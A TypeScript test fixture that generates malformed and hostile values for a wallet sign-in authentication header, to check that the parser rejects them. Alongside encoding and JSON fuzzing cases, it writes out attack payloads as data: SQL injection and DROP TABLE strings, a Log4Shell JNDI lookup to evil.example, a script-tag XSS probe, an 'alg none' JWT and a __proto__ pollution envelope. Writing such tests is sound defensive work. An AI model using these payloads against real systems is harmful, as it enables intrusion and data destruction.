import { createKey } from '#auth';
import { encodeEnvelope, message, presign, type TestWallet } from '../../support/wallets.ts';

/** What is wrong with a header's value, and the value, which a header can carry. */
export type Value = readonly [name: string, value: string];

const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64');

/** Values that are no envelope, or one of another shape. */
export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Value[]> {
  // Of a length that takes padding, so that what is done to the padding is something else than leaving it away.
  let right = await presign(wallet);
  for (let length = 1; !encodeEnvelope(right).endsWith('='); length += 1)
    right = await presign(wallet, { requestId: 'x'.repeat(length) });
  const other = await presign(wallet, { domain: 'evil.example' });
  const { message: text, signature } = right;
  const json = JSON.stringify(right);
  const value = encodeEnvelope(right);
  const written = (name: string, content: string | Uint8Array): Value => [name, base64(content)];
  const envelope = (name: string, content: unknown): Value => [name, encodeEnvelope(content)];
  const [messageJson, signatureJson] = [JSON.stringify(text), JSON.stringify(signature)];
  // In a place where the bytes of the header begin a new group of three, so that cutting it there leaves whole bytes.
  const third = Math.floor(value.length / 3 / 4) * 4;

  return [
    // JSON that is no envelope.
    ...[
      'null',
      'true',
      '0',
      '1e999',
      '""',
      '"text"',
      '[]',
      '{}',
      '[[]]',
      '{"a":1}',
      '-',
      'undefined',
      'NaN',
      '{',
      '}',
      '{"message":',
      '\u0000',
    ].map((content) => written(`of the JSON ${JSON.stringify(content)}`, content)),
    envelope('in a list', [right]),
    envelope('twice in a list', [right, right]),
    envelope('as a list of its values', [text, signature]),
    envelope('as a text', json),
    envelope('inside "siwx"', { siwx: right }),
    envelope('inside "payload"', { payload: right }),
    envelope('inside "__proto__"', JSON.parse(`{"__proto__":${json}}`)),
    envelope('inside "constructor"', { constructor: { prototype: right } }),
    envelope('without its message', { signature }),
    envelope('without its signature', { message: text }),
    envelope('with its message named in capitals', { Message: text, signature }),
    envelope('with its signature named in capitals', { message: text, Signature: signature }),
    envelope('with spaces around its names', { ' message ': text, ' signature ': signature }),
    envelope('with its fields swapped', { message: signature, signature: text }),
    ...[null, true, 0, 7, '', [], {}].map((odd) =>
      envelope(`with the message ${JSON.stringify(odd)}`, { message: odd, signature }),
    ),
    envelope('with its message in a list', { message: [text], signature }),
    envelope('with its message in an object', { message: { text }, signature }),
    envelope('with its message as a list of lines', { message: text.split('\n'), signature }),
    envelope('with its message in base64', { message: base64(text), signature }),
    envelope('with a message in hex', { message: `0x${Buffer.from(text).toString('hex')}`, signature }),
    envelope('with a message of bytes', { message: { type: 'Buffer', data: [...Buffer.from(text)] }, signature }),
    envelope('with a message that has a method', { message: { toString: text }, signature }),
    written(
      'with the right message first and another after it',
      `{"message":${messageJson},"message":${JSON.stringify(other.message)},"signature":${signatureJson}}`,
    ),
    written(
      'with the right signature first and another after it',
      `{"message":${messageJson},"signature":${signatureJson},"signature":${JSON.stringify(other.signature)}}`,
    ),
    written(
      'with the right message first and null after it',
      `{"message":${messageJson},"signature":${signatureJson},"message":null}`,
    ),
    envelope('with the message of one sign-in and the signature of another', {
      message: text,
      signature: other.signature,
    }),
    written('with a comma at its end', json.replace(/\}$/, ',}')),
    written('with a comment', `/* sign-in */${json}`),
    written('with single quotes', json.replaceAll('"', "'")),
    written('with names without quotes', json.replace('"message"', 'message')),
    written('with line feeds in the text', `{"message":"${text}","signature":${signatureJson}}`),
    written('with text after it', `${json}x`),
    written('with a second one after it', json + json),
    written('with a byte order mark', `\ufeff${json}`),
    written('with NUL after it', `${json}\0`),
    written('in a call', `callback(${json})`),
    written('behind the guard against JSON hijacking', `)]}',\n${json}`),
    written('in UTF-16', Buffer.from(json, 'utf16le')),
    written('in UTF-16 with a mark', Buffer.from(`\ufeff${json}`, 'utf16le')),
    written(
      'that is no UTF-8',
      Buffer.concat([Buffer.from(json.slice(0, 20)), Buffer.of(0xff, 0xfe, 0xc0, 0x80), Buffer.from(json.slice(20))]),
    ),
    written(
      'with an overlong encoding',
      Buffer.from(json.replace('wants', 'w\u0001ants').replace('\\u0001', ''), 'latin1').fill(0xc0, 30, 31),
    ),
    written(
      'with half a character in its message',
      JSON.stringify({
        message: text.replace('Solana', 'Sol\ud800ana').replace('Ethereum', 'Eth\ud800ereum'),
        signature,
      }),
    ),
    written('of 1,000 opened lists', '['.repeat(1000)),
    written('of 1,000 lists', '['.repeat(1000) + ']'.repeat(1000)),
    written('of 500 objects in each other', `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`),
    written(
      'with 500 lists beside its fields and no signature',
      `{"message":${messageJson},"a":${'['.repeat(500)}${']'.repeat(500)}}`,
    ),
    written(
      'with 600 keys',
      JSON.stringify(Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`k${index}`, 1]))),
    ),
    written('of 4,000 spaces', ' '.repeat(4000)),
    written(
      'with a signature of 5,000 digits without quotes',
      `{"message":${messageJson},"signature":${'9'.repeat(5000)}}`,
    ),
    written('of random bytes', Buffer.from(Array.from({ length: 300 }, (_, index) => (index * 137 + 91) % 256))),
    written(
      'that is packed with gzip',
      Buffer.from('1f8b0800000000000003ab56ca4d2d2e4e4c4f55b2520200d3b4a6d90e000000', 'hex'),
    ),
    written('that is a token of JWT', `${base64('{"alg":"none"}')}.${base64(json)}.`),

    // The base64 around it.
    ['that is empty', ''],
    ['of one letter', 'e'],
    ['of padding alone', '=='],
    ['that is plain JSON', json.replaceAll(/[^ -~]/g, '')],
    ['that is the signature alone', signature],
    ['that is the message in one line', text.replaceAll('\n', ' ')],
    ['with the name of a scheme', `SIWx ${value}`],
    ['with the name of Bearer', `Bearer ${value}`],
    ['in quotation marks', `"${value}"`],
    ['in angle brackets', `<${value}>`],
    ['as a data URL', `data:application/json;base64,${value}`],
    ['with a parameter', `${value};v=1`],
    ['twice with a comma', `${value}, ${value}`],
    ['twice with a space', `${value} ${value}`],
    ['twice without anything', value.replace(/=+$/, '') + value],
    ['with another after it, with a comma', `${value},${encodeEnvelope(other)}`],
    ['in base64 of base64', base64(value)],
    ['in base64 of base64 of base64', base64(base64(value))],
    ['in hex', Buffer.from(json).toString('hex')],
    ['percent-encoded', encodeURIComponent(`${value}=+/`)],
    ['percent-encoded JSON', encodeURIComponent(json)],
    ['with a space in the middle', `${value.slice(0, third)} ${value.slice(third)}`],
    ['with a tab in the middle', `${value.slice(0, third)}\t${value.slice(third)}`],
    ['with a full stop in the middle', `${value.slice(0, third)}.${value.slice(third)}`],
    ['with a tilde in the middle', `${value.slice(0, third)}~${value.slice(third)}`],
    ['with an exclamation mark in the middle', `${value.slice(0, third)}!${value.slice(third)}`],
    ['with a percent sign in the middle', `${value.slice(0, third)}%${value.slice(third)}`],
    ['with padding in the middle', `${value.slice(0, third)}==${value.slice(third)}`],
    ['with padding before it', `=${value}`],
    ['with three paddings', `${value.replace(/=+$/, '')}===`],
    ['with 100 paddings', `${value.replace(/=+$/, '')}${'='.repeat(100)}`],
    ['with a dollar sign after it', `${value}$`],
    ['with commas for some of its letters', value.replaceAll(/[/+=e]/g, ',')],
    ['in small letters', value.toLowerCase()],
    ['backwards', value.split('').reverse().join('')],
    ['without its first letter', value.slice(1)],
    ['without its first four letters', value.slice(4)],
    ['cut in half', value.slice(0, Math.floor(value.length / 2))],
    ['cut before its last eight letters', value.slice(0, -8)],
    ['with four letters of zeros before it', `AAAA${value}`],
    ['with four letters of zeros after it', `${value.replace(/=+$/, '')}AAAA`],
    ['with letters of Latin-1 after it', `${value}\u00e9\u00fc`],
    ['of 8,193 letters', 'e'.repeat(8193)],
    ['of an envelope that is too long', encodeEnvelope({ ...right, padding: 'x'.repeat(6500) })],
    ['of an envelope that is far too long', encodeEnvelope({ ...right, padding: 'x'.repeat(9500) })],
    ['null', 'null'],
    ['undefined', 'undefined'],
    ['[object Object]', '[object Object]'],
    ['siwx', 'siwx'],
    ['a key of ours', createKey('live').text],
    ['a statement of SQL', "' OR 1=1 --"],
    ['a template', '${jndi:ldap://evil.example/a}'],
    ['markup', '<script>alert(1)</script>'],
    envelope('with a message of SQL', {
      message: message(wallet, { statement: "'; DROP TABLE nonces; --" }),
      signature,
    }),
  ];
}
